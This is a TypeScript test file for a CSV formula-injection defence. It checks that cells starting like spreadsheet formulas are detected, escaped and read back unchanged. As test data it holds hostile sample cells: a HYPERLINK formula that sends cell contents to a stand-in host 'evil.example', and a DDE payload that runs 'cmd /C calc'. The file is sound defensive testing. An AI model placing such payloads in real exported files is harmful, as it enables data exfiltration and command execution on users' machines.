import * as fc from 'fast-check';
import Papa from 'papaparse';
import {
  isFormulaLike,
  markFormula,
  unmarkFormula,
} from '../../../src/datapackage/csv/formula-mark';
import { readPackage } from '../../../src/datapackage/read-package';
import { writePackage } from '../../../src/datapackage/write-package';

test.each([
  ['=1+1', true],
  ['＝SUM(A1)', true],
  ['+86', false],
  ['@某处', true],
  ['-2+3+cmd|x', true],
  ['-(1)', true],
  ['-3.9', false],
  ['－3.9', false],
  ['-5%左右', false],
  ['+1,200万元', false],
  ['--', false],
  ['-', false],
  ['—', false],
  ['−1+A1', true],
  ['﹦1', true],
  ['\u200b =1', true],
  ['\t地区', true],
  ['\r=1', true],
  ['-3.9 %', false],
  [`-${'1'.repeat(30_000)}=`, true],
  ['—=1', false],
  ['<4', false],
  ['[2]', false],
])('%j begins like a formula: %s', (text, expected) => {
  expect(isFormulaLike(text)).toBe(expected);
});

test.each([
  ['=1+1', "'=1+1"],
  ["'=1+1", "''=1+1"],
  ["'十四五'", "'十四五'"],
  ['-3.9', '-3.9'],
  ['--', '--'],
  ['[6.5]', '[6.5]'],
  ['', ''],
])('%s is written as %s', (text, cell) => {
  expect(markFormula(text)).toBe(cell);
  expect(unmarkFormula(cell)).toBe(text);
});

/** Mostly of what matters here. */
const texts = fc.string({
  unit: fc.oneof(
    fc.constantFrom(..."'=＝+-@\t\r\u200b 3."),
    fc.string({ minLength: 1, maxLength: 1 }),
  ),
});

test('whatever is written is read back, and none of it is calculated', () => {
  fc.assert(
    fc.property(texts, (text) => {
      const cell = markFormula(text);
      expect(unmarkFormula(cell)).toBe(text);
      expect(isFormulaLike(cell)).toBe(false);
    }),
  );
});

test('a package with live texts is safe to open, and says the same when it is read', () => {
  const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|'/C calc'!A0", "'=1"];
  const files = writePackage(
    { name: 'x', title: 'x', created: '' },
    { sources: names.map((title, at) => ({ source_id: `s${String(at)}`, title })) },
  );
  const csv = files.filter(({ path }) => path.endsWith('.csv'));
  const cells = csv.flatMap(
    ({ bytes }) => Papa.parse<string[]>(new TextDecoder().decode(bytes)).data,
  );
  expect(cells.flat().filter((cell) => /^[=+\-@]/u.test(cell))).toEqual([]);
  const reading = readPackage(files, []);
  if (!reading.ok) throw new Error(JSON.stringify(reading.findings));
  expect(reading.package.sources.map(({ title }) => title)).toEqual(names);
  expect(reading.findings).toMatchObject(
    names.slice(0, 2).map((text) => ({ kind: 'cell-formula-like', text, isMarked: true })),
  );
});
